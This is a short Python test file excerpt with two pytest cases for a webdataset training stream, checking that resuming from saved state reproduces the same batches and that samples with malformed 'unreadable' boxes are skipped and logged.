def test_resume_with_loss_masks_continues_with_exactly_the_next_batches(masked_shards, num_workers):
    cfg = DataConfig(shards=str(masked_shards[0] / "shard-{000000..000003}.tar"), num_workers=num_workers,
                     shuffle_buffer=5, resampled=True, mask_unreadable=True)
    aug = AugmentConfig(crop_prob=0.5, flip_lr_prob_es=0.5)
    whole = list(islice(build_train_stream(cfg, aug, 16, 8, 5, 0, 1), 7))
    first = build_train_stream(cfg, aug, 16, 8, 5, 0, 1)
    head = list(islice(first, 3))
    state = json.loads(json.dumps(first.state_dict()))
    resumed = list(islice(build_train_stream(cfg, aug, 16, 8, 5, 0, 1, state=state), 4))
    for got, want in zip(head + resumed, whole):
        assert_same_batches(got, want)
    assert any(b["loss_mask"].min().item() == 0.0 for b in whole)


def test_a_malformed_unreadable_box_makes_a_corrupt_sample_naming_it(tmp_path, caplog):
    rng = np.random.default_rng(3)
    path = tmp_path / "shard-000000.tar"
    with wds.TarWriter(str(path)) as writer:
        write_sample(writer, "good", rng, unreadable=[(1, 1, 5, 5)])
        write_sample(writer, "inverted", rng, unreadable=[(8, 1, 5, 5)])
        write_sample(writer, "short", rng, unreadable=[(1, 1, 5)])
    cfg = DataConfig(shards=str(path), num_workers=0, shuffle_buffer=0, resampled=False, mask_unreadable=True)
    stream = build_train_stream(cfg, AugmentConfig(), 16, 0, 1, 0, 1)
    with caplog.at_level(logging.WARNING, logger="textdiff.data.stream"):
        batch = next(iter(stream))
        next(iter(stream))
    assert batch["key"] == ["good"] and stream.counters()["skipped_corrupt"] == 2
    messages = "\n".join(r.getMessage() for r in caplog.records)
    assert "unreadable box [8.0, 1.0, 5.0, 5.0]" in messages and "unreadable box [1.0, 1.0, 5.0]" in messages
